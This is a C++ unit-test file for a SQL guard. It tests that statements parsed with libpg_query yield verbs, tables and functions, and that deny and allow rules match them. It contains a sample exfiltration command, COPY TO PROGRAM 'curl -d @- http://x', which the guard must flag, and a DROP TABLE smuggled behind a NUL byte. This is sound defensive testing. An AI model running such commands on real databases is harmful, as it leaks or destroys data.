// The SQL facts the Postgres gate judges by (libpg_query, PostgreSQL 15's
// grammar), and the SQL rules' matching in decide().
#include "userspace/guard/sql_facts.h"

#include <gtest/gtest.h>

#include "userspace/guard/guard_policy.h"

namespace faultline {
namespace {

using Names = std::vector<std::string>;

struct FactsCase {
  const char* sql;
  std::vector<Names> verbs;   // per statement
  std::vector<Names> tables;  // per statement
  std::vector<Names> functions;
};

TEST(SqlFacts, VerbsTablesAndFunctionsPerStatement) {
  const std::vector<FactsCase> cases = {
      {"SELECT * FROM t", {{"SELECT"}}, {{"t"}}, {{}}},
      {"select a from Public.Users u join orders o on u.id = o.uid", {{"SELECT"}}, {{"public.users", "orders"}}, {{}}},
      {"SELECT now(), pg_catalog.pg_sleep(1)", {{"SELECT"}}, {{}}, {{"now", "pg_catalog.pg_sleep"}}},
      {"INSERT INTO a SELECT * FROM b", {{"INSERT", "SELECT"}}, {{"a", "b"}}, {{}}},
      {"UPDATE prod.users SET x = 1 WHERE id = 2", {{"UPDATE"}}, {{"prod.users"}}, {{}}},
      {"DELETE FROM t WHERE true", {{"DELETE"}}, {{"t"}}, {{}}},
      // DML inside a CTE is the statement's own.
      {"WITH d AS (DELETE FROM s.t RETURNING *) SELECT * FROM d", {{"SELECT", "DELETE"}}, {{"d", "s.t"}}, {{}}},
      {"DROP TABLE a, s.b", {{"DROP"}}, {{"a", "s.b"}}, {{}}},
      {"DROP SCHEMA x CASCADE", {{"DROP"}}, {{}}, {{}}},
      {"TRUNCATE t1, t2", {{"TRUNCATE"}}, {{"t1", "t2"}}, {{}}},
      {"ALTER TABLE t ADD COLUMN c int", {{"ALTER"}}, {{"t"}}, {{}}},
      {"CREATE TABLE n (id int)", {{"CREATE"}}, {{"n"}}, {{}}},
      {"CREATE INDEX i ON t (c)", {{"CREATE"}}, {{"t"}}, {{}}},
      {"GRANT SELECT ON t TO bob", {{"GRANT"}}, {{"t"}}, {{}}},
      {"REVOKE SELECT ON t FROM bob", {{"REVOKE"}}, {{"t"}}, {{}}},
      {"COPY t TO STDOUT", {{"COPY"}}, {{"t"}}, {{}}},
      {"DO $$ BEGIN PERFORM 1; END $$", {{"DO"}}, {{}}, {{}}},
      {"BEGIN; SELECT 1; COMMIT", {{"BEGIN"}, {"SELECT"}, {"COMMIT"}}, {{}, {}, {}}, {{}, {}, {}}},
      {"EXPLAIN ANALYZE DELETE FROM t", {{"EXPLAIN", "DELETE"}}, {{"t"}}, {{}}},
      {"PREPARE p AS UPDATE t SET a = $1", {{"PREPARE", "UPDATE"}}, {{"t"}}, {{}}},
      {"SET search_path = x", {{"SET"}}, {{}}, {{}}},
      {"", {}, {}, {}},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.sql);
    SqlFacts f = sql_facts(c.sql);
    ASSERT_TRUE(f.parsed) << f.error;
    ASSERT_EQ(f.statements.size(), c.verbs.size());
    for (size_t i = 0; i < f.statements.size(); ++i) {
      EXPECT_EQ(f.statements[i].verbs, c.verbs[i]);
      EXPECT_EQ(f.statements[i].tables, c.tables[i]);
      EXPECT_EQ(f.statements[i].functions, c.functions[i]);
    }
  }
}

TEST(SqlFacts, CopyProgramIsFlagged) {
  SqlFacts f = sql_facts("COPY t TO PROGRAM 'curl -d @- http://x'");
  ASSERT_TRUE(f.parsed);
  ASSERT_EQ(f.statements.size(), 1u);
  EXPECT_TRUE(f.statements[0].copy_program);
  EXPECT_FALSE(sql_facts("COPY t FROM STDIN").statements[0].copy_program);
}

TEST(SqlFacts, UnparseableSaysWhere) {
  SqlFacts f = sql_facts("SELEC 1");
  EXPECT_FALSE(f.parsed);
  EXPECT_NE(f.error.find("syntax error"), std::string::npos) << f.error;
  EXPECT_NE(f.error.find("position"), std::string::npos) << f.error;
  EXPECT_FALSE(sql_facts(std::string("SELECT 1\0; DROP TABLE t", 24)).parsed);  // a NUL hides nothing
}

GuardRule sql_rule(std::string name, GuardVerdict action, std::string verb, std::string table = "",
                   std::string function = "") {
  GuardRule r;
  r.name = std::move(name);
  r.action = action;
  r.sql_verb = std::move(verb);
  r.sql_table = std::move(table);
  r.sql_function = std::move(function);
  return r;
}

GuardDecision decide_sql(const GuardPolicy& p, const char* sql) {
  SqlFacts f = sql_facts(sql);
  EXPECT_TRUE(f.parsed && f.statements.size() == 1) << sql;
  RequestFacts facts;
  facts.sql = &f.statements.at(0);
  return decide(p, facts);
}

TEST(SqlRules, DenyMatchesAnyAllowMatchesEvery) {
  GuardPolicy p;
  p.mode = GuardMode::Enforce;
  p.default_allow = false;
  p.rules = {sql_rule("no-drop", GuardVerdict::Deny, "DROP"), sql_rule("no-prod", GuardVerdict::Deny, "", "prod.*"),
             sql_rule("no-sleep", GuardVerdict::Deny, "", "", "pg_sleep"),
             sql_rule("reads", GuardVerdict::Allow, "SELECT")};
  EXPECT_EQ(decide_sql(p, "DROP TABLE t").rule, "no-drop");
  EXPECT_EQ(decide_sql(p, "WITH x AS (DELETE FROM prod.users RETURNING 1) SELECT 1").rule, "no-prod");
  EXPECT_EQ(decide_sql(p, "SELECT * FROM users").verdict, GuardVerdict::Allow);
  EXPECT_EQ(decide_sql(p, "SELECT pg_catalog.pg_sleep(10)").rule, "no-sleep");  // no dot: any schema
  // An allow rule for SELECT does not let an INSERT ... SELECT through.
  const GuardDecision d = decide_sql(p, "INSERT INTO a SELECT * FROM b");
  EXPECT_EQ(d.verdict, GuardVerdict::Deny);
  EXPECT_EQ(d.rule, "");
  // A table glob with a dot matches the name as written; without, any schema.
  EXPECT_EQ(decide_sql(p, "SELECT * FROM users").rule, "reads");
  EXPECT_TRUE(sql_name_matches("users", "prod.users"));
  EXPECT_TRUE(sql_name_matches("prod.*", "PROD.Users"));
  EXPECT_FALSE(sql_name_matches("prod.*", "users"));
}

TEST(SqlRules, SqlAndHttpRulesStayApart) {
  GuardPolicy p;
  p.mode = GuardMode::Enforce;
  p.rules = {sql_rule("no-drop", GuardVerdict::Deny, "DROP")};
  GuardRule http;
  http.name = "no-secrets";
  http.action = GuardVerdict::Deny;
  http.path = "/";
  p.rules.push_back(http);
  EXPECT_EQ(decide_sql(p, "SELECT 1").verdict, GuardVerdict::Allow);  // the HTTP rule does not judge SQL
  RequestFacts req;
  req.method = "DROP";
  req.host = "x";
  req.path = "/a";
  EXPECT_EQ(decide(p, req).rule, "no-secrets");  // and the SQL rule no request
}

TEST(SqlRules, VerbAndGlobValidation) {
  EXPECT_EQ(*parse_sql_verb("drop"), "DROP");
  EXPECT_FALSE(parse_sql_verb("DROP TABLE"));
  EXPECT_FALSE(parse_sql_verb(""));
  EXPECT_EQ(*parse_sql_glob("Prod.*"), "prod.*");
  EXPECT_FALSE(parse_sql_glob("a b"));
}

}  // namespace
}  // namespace faultline
